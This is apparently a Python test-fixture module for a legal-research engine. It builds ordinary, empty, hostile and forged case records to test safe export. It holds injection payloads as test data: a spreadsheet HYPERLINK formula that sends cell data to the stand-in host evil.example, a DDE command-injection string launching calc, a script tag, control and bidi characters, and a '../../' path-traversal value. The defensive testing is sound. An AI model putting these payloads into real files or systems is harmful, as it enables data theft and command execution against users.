"""Real cases of every kind that a format meets, and records that people sent."""

from __future__ import annotations

from collections.abc import Mapping
from contextlib import closing
from pathlib import Path
from typing import Any

import orjson

from engine.corpus import open_corpus
from engine.corpus.protocol import Corpus
from engine.exports.cases import ExportableCase
from engine.ingestion.build import build_corpus
from engine.records.replaying import DISMISS, FOLLOW, PIN
from engine.records.store.store import CaseStore
from engine.settings import InvestigationSettings
from tests.engine.harbour import NOTHING, QUESTION
from tests.engine.investigation.assistance.script import helped, sensible
from tests.engine.investigation.story import case_of, finished, record_of
from tests.engine.llm.server import ScriptedServer

ORDINARY, EMPTY, GAPS, HOSTILE, FORGED, ASKED = "ordinary", "nothing", "gaps", "hostile", "forged", "model"
KINDS = (ORDINARY, EMPTY, GAPS, HOSTILE, FORGED, ASKED)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"see")'
SCRIPT = "<script>alert('x')</script>"
CONTROL = "\x00\x01\x08\x0b\x1b\x7f\ufffe\uffff"
ARABIC = "يجوز للوكيل أن يعين وكيلا من الباطن"
GERMAN = "Rindfleischetikettierungsüberwachungsaufgabenübertragungsgesetz"
HOSTILE_QUESTION = f"=1+1 {SCRIPT} agent {ARABIC}"
WHO = "=cmd|' /C calc'!A0 Анна <b>"
NOTES = f"{FORMULA}\r\n{ARABIC}"

ACT = f"""---
id: formula-act
title: '{FORMULA.replace("'", "''")}'
language: en
---

# {FORMULA}

### Article 1 {SCRIPT}

=SUM(A1:A9) An agent acts for a principal. See Article 2 of this Act.

### Article 2 {GERMAN}

+49 The principal pays the agent; @once a year.
"""
ARABIC_ACT = f"""---
id: وكالة
title: قانون الوكالة
language: ar
---

# قانون الوكالة

### المادة 1

{ARABIC} وفقا للمادة 2 من هذا القانون.

### المادة 2

على الوكيل أن يقدم حسابا للموكل.
"""


def hostile_corpus(folder: Path) -> Corpus:
    """Texts that are no harm to read and may be to hand over."""
    sources = folder / "sources"
    sources.mkdir()
    for name, text in (("formula", ACT), ("arabic", ARABIC_ACT)):
        (sources / f"{name}.md").write_text(text, encoding="utf-8")
    build_corpus([sources], folder / "hostile", embedding="none")
    return open_corpus(folder / "hostile")


def kept(store: CaseStore, harbour: Corpus) -> ExportableCase:
    """A case with queries for gaps, kept, in which somebody pinned, dismissed, followed and took back."""
    case = finished(harbour, QUESTION)
    case_id = store.keep(
        record_of(case),
        store.matter("Harbour"),
        application="page",
        who=WHO,
        fingerprint="f" * 64,
        name=FORMULA,
    )
    first, second, third = (ranked.passage.id for ranked in case.ranking[:3])
    for kind, passage in ((DISMISS, first), (PIN, second), (FOLLOW, third)):
        if kind == FOLLOW:
            list(case.follow(passage, ["citations"]))
        else:
            (case.pin if kind == PIN else case.dismiss)(passage)
        data = {"passage": passage} | ({"strategies": ["citations"]} if kind == FOLLOW else {})
        store.step(case_id, kind, who=WHO, data=data, record=record_of(case))
    store.undo(case_id, who="Bob")
    store.describe(case_id, who=WHO, notes=NOTES)
    store.judge(case_id, "supported", who=WHO, right=True)
    return ExportableCase(
        store.record(case_id), store.summary(case_id), store.events(case_id), store.notes(case_id), harbour
    )


def forged(record: Mapping[str, Any]) -> dict[str, Any]:
    """A record as somebody may send it: the same in form, with what hurts in each text."""
    found: dict[str, Any] = orjson.loads(orjson.dumps(record))
    bad = f"{FORMULA}{SCRIPT}{CONTROL}]]>&quot;\r\n\t{ARABIC}\u202e\u2028\x85"
    found["question"] = bad
    found["corpus"] = f"../../{bad}"
    for one in found["passages"]:
        one["title"], one["label"], one["text"] = bad, f"-{bad}", f"@{bad}"
        for trail in one["trails"]:
            for hop in trail:
                hop["quote"], hop["detail"] = bad, bad
    for one in found["rounds"]:
        one["purpose"] = bad
        for query in one["queries"]:
            query["text"], query["name"] = bad, bad
    for hop in found["pool"]["edges"]:
        hop["quote"], hop["detail"] = bad, bad
        if hop["query"] is not None:
            hop["query"] |= {"text": bad, "name": bad}
    # Ids that differ in what XML cannot hold, and one that is called as a node of ours.
    names = {found["pool"]["nodes"][place]["id"]: f"x\x00{'y' * place}" for place in (0, 1)}
    names[found["pool"]["nodes"][2]["id"]] = "question:"
    names[found["pool"]["nodes"][3]["id"]] = f"x\x01{bad}".replace("\r\n\t", "").replace("\u2028\x85", "")
    names[found["pool"]["nodes"][4]["id"]] = "x\x01"
    renamed = _renamed(found, names)
    assert isinstance(renamed, dict)
    return renamed


def _renamed(value: Any, names: Mapping[str, str]) -> Any:
    if isinstance(value, dict):
        return {key: _renamed(one, names) for key, one in value.items()}
    if isinstance(value, list):
        return [_renamed(one, names) for one in value]
    return names.get(value, value) if isinstance(value, str) else value


def made(kind: str, folder: Path, harbour: Corpus, bare: Corpus) -> ExportableCase:
    if kind == ORDINARY:
        return ExportableCase(record_of(finished(bare, QUESTION)))
    if kind == EMPTY:
        return ExportableCase(record_of(finished(harbour, NOTHING)), corpus=harbour)
    if kind == GAPS:
        with closing(CaseStore(f"sqlite:///{folder / 'cases.sqlite'}")) as store:
            return kept(store, harbour)
    if kind == HOSTILE:
        corpus = hostile_corpus(folder)
        case = case_of(corpus, HOSTILE_QUESTION, InvestigationSettings(rounds=2))
        list(case.run())
        return ExportableCase(record_of(case), corpus=corpus)
    if kind == FORGED:
        return ExportableCase(forged(record_of(finished(harbour, QUESTION))))
    with ScriptedServer(sensible) as server:
        return ExportableCase(record_of(helped(harbour, QUESTION, server.connect())))
